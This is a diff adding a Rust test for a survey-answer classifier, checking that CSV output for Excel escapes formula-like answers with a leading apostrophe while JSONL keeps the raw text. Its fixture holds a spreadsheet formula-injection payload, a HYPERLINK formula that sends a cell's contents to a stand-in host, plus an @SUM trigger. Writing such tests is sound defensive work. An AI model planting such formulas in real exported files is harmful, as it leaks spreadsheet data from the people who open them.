@@ -156,6 +156,54 @@ fn classify_csv_is_utf8_with_bom_and_attribute_columns() {
     assert!(stderr(&output).is_empty(), "--quiet prints no summary");
 }
 
+/// Answers are untrusted: in the CSV for Excel, a text that Excel would run as a formula starts
+/// with `'`; the JSONL keeps the text as written.
+#[test]
+fn formulas_in_answers_reach_the_csv_as_text() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let input = dir.path().join("answers.csv");
+    std::fs::write(
+        &input,
+        "id,question,text\r\n\
+         1,Q6-1,\"=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"事例\"\")\"\r\n\
+         2,Q6-1,-研修がほしい\r\n3,Q6-1,-\r\n4,Q6-1,@SUM(1)\r\n",
+    )
+    .expect("write input");
+    let path = input.to_str().expect("utf-8 path");
+    let output = jiyu(&[
+        "classify",
+        "--quiet",
+        "--input",
+        path,
+        "--output-format",
+        "csv",
+    ]);
+    assert!(output.status.success(), "{}", stderr(&output));
+    let text = stdout(&output);
+    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let texts: Vec<String> = reader
+        .records()
+        .map(|record| record.expect("a CSV record")[2].to_string())
+        .collect();
+    assert_eq!(
+        texts,
+        [
+            "'=HYPERLINK(\"http://example.com/?\"&A1,\"事例\")",
+            "'-研修がほしい",
+            "-",
+            "'@SUM(1)"
+        ]
+    );
+    let output = jiyu(&["classify", "--quiet", "--input", path]);
+    assert!(output.status.success(), "{}", stderr(&output));
+    let first: serde_json::Value =
+        serde_json::from_str(stdout(&output).lines().next().expect("a line")).expect("JSON");
+    assert_eq!(
+        first["text"],
+        "=HYPERLINK(\"http://example.com/?\"&A1,\"事例\")"
+    );
+}
+
 #[test]
 fn malformed_input_exits_2_naming_file_line_and_column_and_writes_nothing() {
     let dir = tempfile::tempdir().expect("tempdir");
